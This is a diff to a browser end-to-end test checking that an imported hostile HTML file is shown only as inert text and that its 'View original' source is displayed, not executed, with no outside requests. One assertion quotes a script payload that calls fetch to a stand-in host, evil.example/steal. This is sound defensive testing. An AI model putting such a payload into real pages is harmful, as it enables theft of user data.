@@ -41,6 +41,16 @@ test('a hostile HTML file imports as readable text, runs nothing and fetches not
   await expect(w.reader.root).toContainText('Work on the new quay is to begin in the spring')
   await expect(w.reader.root.locator('script, iframe, object, img, a[href^="javascript"], [onerror]')).toHaveCount(0)
   expect(await app.page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined()
+
+  // Its original can be looked at as source: shown, never rendered.
+  await w.reader.root.getByRole('button', { name: 'View original' }).click()
+  const original = app.page.getByRole('dialog', { name: 'Original file' })
+  await expect(original).toContainText("<script>window.__pwned = true; fetch('https://evil.example/steal")
+  await expect(original.locator('script, iframe, img, object')).toHaveCount(0)
+  await app.page.keyboard.press('Escape')
+  await expect(original).toHaveCount(0)
+  expect(await app.page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined()
+
   await app.page.waitForTimeout(500)
   const outside = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('file:') && !u.startsWith('data:'))
   expect(outside).toEqual([])
